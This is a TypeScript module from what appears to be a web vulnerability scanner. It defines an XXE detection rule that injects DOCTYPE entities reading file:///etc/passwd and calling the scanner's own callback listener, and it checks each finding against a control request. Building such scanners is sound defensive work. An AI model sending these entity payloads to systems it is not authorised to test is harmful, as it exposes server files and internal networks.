import { randomBytes } from 'node:crypto';
import { CALLBACK_BODY, callbackListener, reachesListener } from '../../http/callback-listener.ts';
import type { HttpClient, RequestSpec } from '../../http/client.ts';
import { text } from '../../http/exchange.ts';
import { ACCOUNTS } from '../../material/injections.ts';
import { xmlElements } from '../../places/asked-xml.ts';
import type { ParameterSlot } from '../../places/parameters.ts';
import { confirmed, type Detection, defineRule, type ProbeContext } from '../rule.ts';

/** Stands in the element, until the reference to the entity does. */
const HERE = 'mb0entity0mb';

export const xmlExternalEntity = defineRule({
  id: 'xml-external-entity',
  title: 'XML external entity injection (XXE)',
  aliases: ['XXE', 'XML injection', 'entity expansion'],
  severity: 'high',
  cwe: [611],
  cvss: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:L/SC:L/SI:N/SA:N',
  description:
    'An attacker can read files of the server and send requests to its internal network. The XML parser resolves external entities.',
  remediation:
    'Disable DTDs in the parser (disallow-doctype-decl, resolve_entities=False, no LIBXML_NOENT), or use JSON.',
  needs: ['active'],
  places: xmlElements,
  async judge(slot, { http, surface }) {
    const byFile = await readsFile(slot, http);
    if (byFile) return byFile;
    const found = await fetches(slot, { http, surface });
    return found ?? 'clean';
  },
});

/** The ordinary document, whose element refers to an entity that is found there. */
function withEntity(slot: ParameterSlot, address: string): RequestSpec {
  const request = slot.with(HERE);
  const written = String(request.body).replace(HERE, '&mb;');
  const root = /<([A-Za-z_][\w.-]*)/.exec(written)?.[1] ?? 'root';
  return { ...request, body: `<!DOCTYPE ${root} [<!ENTITY mb SYSTEM "${address}">]>${written}` };
}

async function readsFile(slot: ParameterSlot, http: HttpClient): Promise<Detection | undefined> {
  const asked = await http.attempt(withEntity(slot, 'file:///etc/passwd'));
  if (asked instanceof Error || !ACCOUNTS.test(text(asked.response))) return undefined;
  const control = await http.send(withEntity(slot, 'file:///etc/mb-none'));
  if (ACCOUNTS.test(text(control.response))) return undefined;
  return confirmed(
    `${slot.name}: an external entity with a file of the server returned its content.`,
    [asked, 'the user accounts of the server, which the request does not contain'],
    [control, 'a file that does not exist, in the same entity: no content'],
  );
}

/** The listener hears a token that was made for this one request. */
async function fetches(
  slot: ParameterSlot,
  { http, surface: { callback, target } }: Pick<ProbeContext, 'http' | 'surface'>,
): Promise<Detection | undefined> {
  if (!callback && !reachesListener(target.hostname)) return undefined;
  const listener = await callbackListener(callback);
  try {
    const [token, unsent] = [randomBytes(8).toString('hex'), randomBytes(8).toString('hex')];
    const asked = await http.attempt(withEntity(slot, listener.urlFor(token)));
    if (asked instanceof Error || !(await listener.received(token, listener.patienceMs))) return undefined;
    if (await listener.received(unsent, 0)) return undefined;
    const isShown = text(asked.response).includes(CALLBACK_BODY);
    return confirmed(
      `${slot.name}: an external entity with a URL made the service fetch it from the scanner’s callback listener; ${isShown ? 'the content was returned' : 'the content was not returned'}.`,
      [asked, 'this document made the parser send a request to the callback listener'],
      [await http.once(slot.plain), 'the ordinary document caused none: the token was in no other request'],
    );
  } finally {
    await listener.close();
  }
}
